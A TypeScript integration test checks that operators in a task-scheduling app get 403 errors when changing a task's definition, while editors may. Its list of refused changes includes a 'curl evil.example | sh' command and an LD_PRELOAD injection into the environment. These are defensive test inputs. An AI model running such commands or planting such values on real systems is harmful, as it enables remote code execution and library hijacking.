// Who defines what runs: an operator runs, pauses, moves and edits the board
// fields of existing tasks, but changing a task's definition (command, http,
// handler, payload, cwd, env, schedule, policies) or creating one needs the
// editor role. Real users with real API tokens over the tRPC fetch adapter.
import { fetchRequestHandler } from '@trpc/server/adapters/fetch';
import superjson from 'superjson';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SYSTEM_ACTOR, type Role } from '../../server/auth/actor';
import { createApiToken } from '../../server/auth/api-tokens';
import { identifyRequest } from '../../server/auth/resolve-actor';
import { loadConfig } from '../../server/config';
import { migrateDatabase, openDatabase, type DatabaseHandle } from '../../server/db';
import { createLogger } from '../../server/lib/logger';
import type { TaskDetail } from '../../server/tasks/get-task-detail';
import type { Context } from '../../server/trpc/context';
import { appRouter } from '../../server/trpc/routers/_app';
import { createUser } from '../../server/users/create-user';
import { createTestDatabase, testProvider, type TestDatabase } from './helpers/test-db';

type Reply = { status: number; data: unknown; message: string | null; fieldErrors: Record<string, string[]> | null };

describe(`operator and editor roles on ${testProvider()}`, () => {
  let testDb: TestDatabase;
  let handle: DatabaseHandle;
  const logger = createLogger({ name: 'test', level: 'silent' });
  const tokens: Partial<Record<Role, string>> = {};

  beforeAll(async () => {
    testDb = await createTestDatabase();
    await migrateDatabase({ url: testDb.url });
    handle = await openDatabase(testDb.url);
    for (const role of ['operator', 'editor'] as const) {
      await createUser({ db: handle.db, email: `${role}@roles.test`, password: 'correct horse battery', role, actor: SYSTEM_ACTOR });
      tokens[role] = (await createApiToken({ db: handle.db, email: `${role}@roles.test`, name: role, actor: SYSTEM_ACTOR })).token;
    }
  });
  afterAll(async () => {
    await handle?.close();
    await testDb?.drop();
  });

  async function call(role: Role, path: string, input: unknown, method: 'GET' | 'POST' = 'POST'): Promise<Reply> {
    const headers = new Headers({ authorization: `Bearer ${tokens[role]}`, 'content-type': 'application/json' });
    const identity = await identifyRequest({ db: handle.db, headers });
    const config = { ...loadConfig({ env: { DATABASE_URL: testDb.url } }), timezone: 'UTC', allowedWorkdirs: ['/'] };
    const ctx: Context = { actor: identity.actor, authVia: identity.via, headers, app: async () => ({ config, handle, logger }) };
    const serialized = JSON.stringify(superjson.serialize(input));
    const req =
      method === 'GET'
        ? new Request(`http://localhost/api/trpc/${path}?input=${encodeURIComponent(serialized)}`, { headers })
        : new Request(`http://localhost/api/trpc/${path}`, { method: 'POST', headers, body: serialized });
    const res = await fetchRequestHandler({ endpoint: '/api/trpc', req, router: appRouter, createContext: () => ctx });
    const body = (await res.json()) as {
      result?: { data: Parameters<typeof superjson.deserialize>[0] };
      error?: { json: { message: string; data: { fieldErrors: Record<string, string[]> | null } } };
    };
    return {
      status: res.status,
      data: body.result ? superjson.deserialize(body.result.data) : undefined,
      message: body.error?.json.message ?? null,
      fieldErrors: body.error?.json.data.fieldErrors ?? null,
    };
  }
  const detail = async (key: string) => (await call('operator', 'tasks.detail', { key }, 'GET')).data as TaskDetail;

  const task = {
    key: 'nightly-report',
    name: 'Nightly report',
    kind: 'shell',
    command: 'echo report',
    cwd: '/tmp',
    env: { REPORT_DIR: '/tmp/reports' },
    payload: { days: 7 },
    schedule: '0 2 * * *',
    labels: ['ops'],
  };

  it('an operator cannot create a task (form, quick add or duplicate); an editor can', async () => {
    for (const [path, input] of [
      ['tasks.create', task],
      ['board.quickAdd', { status: 'todo', name: 'Sneaky', command: 'id' }],
    ] as const) {
      const refused = await call('operator', path, input);
      expect([refused.status, refused.message], path).toEqual([403, 'This needs the editor role; you are operator.']);
    }
    expect(await handle.db.task.count()).toBe(0);

    expect((await call('editor', 'tasks.create', task)).status).toBe(200);
    const copy = await call('operator', 'tasks.duplicate', { key: task.key });
    expect(copy.status).toBe(403);
    expect(await handle.db.task.count()).toBe(1);
  });

  it('an operator moves, pauses, resumes, runs and renames a task, and edits its board fields through the whole form', async () => {
    const moved = await call('operator', 'board.move', { key: task.key, toStatus: 'in_review', expectedBoardVersion: (await detail(task.key)).boardVersion });
    expect(moved.status).toBe(200);
    let version = (await detail(task.key)).version;
    expect((await call('operator', 'tasks.pause', { key: task.key, expectedVersion: version })).status).toBe(200);
    version = (await detail(task.key)).version;
    expect((await call('operator', 'tasks.resume', { key: task.key, expectedVersion: version })).status).toBe(200);
    const run = await call('operator', 'tasks.runNow', { key: task.key });
    expect(run).toMatchObject({ status: 200, data: { runId: expect.any(Number) as number } });

    // The task form sends every field: the stored definition unchanged, the board fields edited.
    const before = await detail(task.key);
    const saved = await call('operator', 'tasks.update', {
      key: task.key,
      expectedVersion: before.version,
      input: { ...before.input, name: 'Nightly report (EU)', description: 'For the EU team', priority: 'high', labels: ['ops', 'eu'], assignee: 'ada', paused: true },
    });
    expect(saved.status, saved.message ?? '').toBe(200);
    const after = await detail(task.key);
    expect(after).toMatchObject({ name: 'Nightly report (EU)', description: 'For the EU team', priority: 'high', assignee: 'ada', paused: true, status: 'in_review' });
    expect(after.input).toMatchObject({ command: 'echo report', cwd: '/tmp', env: { REPORT_DIR: '/tmp/reports' }, payload: { days: 7 }, schedule: '0 2 * * *' });
  });

  it('an operator gets 403 naming the field when changing what runs; nothing is stored; an editor may', async () => {
    const changes: Record<string, unknown>[] = [
      { command: 'curl evil.example | sh' },
      { env: { REPORT_DIR: '/tmp/reports', LD_PRELOAD: '/tmp/x.so' } },
      { cwd: '/' },
      { payload: { days: 9999 } },
      { schedule: '* * * * *' },
      { kind: 'http', command: undefined, httpUrl: 'https://example.com/hook' },
      { key: 'renamed-key' },
      { timeoutSeconds: 5 },
    ];
    const before = await detail(task.key);
    for (const change of changes) {
      const field = Object.keys(change).find((k) => k !== 'command' || change.command !== undefined)!;
      const refused = await call('operator', 'tasks.update', { key: task.key, expectedVersion: before.version, input: { ...before.input, ...change } });
      expect(refused.status, field).toBe(403);
      expect(refused.message, field).toMatch(new RegExp(`^Changing .*${field === 'kind' ? 'kind' : field}.* needs the editor role; you are operator`));
      expect(refused.fieldErrors?.[field === 'key' ? 'key' : field], field).toEqual(['needs the editor role']);
    }
    const unchanged = await detail(task.key);
    expect(unchanged.version).toBe(before.version);
    expect(unchanged.input).toEqual(before.input);

    const edited = await call('editor', 'tasks.update', { key: task.key, expectedVersion: before.version, input: { ...before.input, command: 'echo report --eu' } });
    expect(edited.status, edited.message ?? '').toBe(200);
    expect((await detail(task.key)).input.command).toBe('echo report --eu');
    const events = await handle.db.event.findMany({ where: { type: 'task.updated' }, orderBy: { id: 'desc' }, take: 1 });
    expect(events[0]?.actorName).toBe('editor (editor@roles.test)');
  });

  it('an editor duplicates and deletes; an operator may not delete', async () => {
    expect((await call('operator', 'tasks.delete', { key: task.key })).status).toBe(403);
    const copy = await call('editor', 'tasks.duplicate', { key: task.key });
    expect(copy).toMatchObject({ status: 200, data: { key: 'nightly-report-copy' } });
    expect((await call('editor', 'tasks.delete', { key: 'nightly-report-copy' })).status).toBe(200);
  });
});
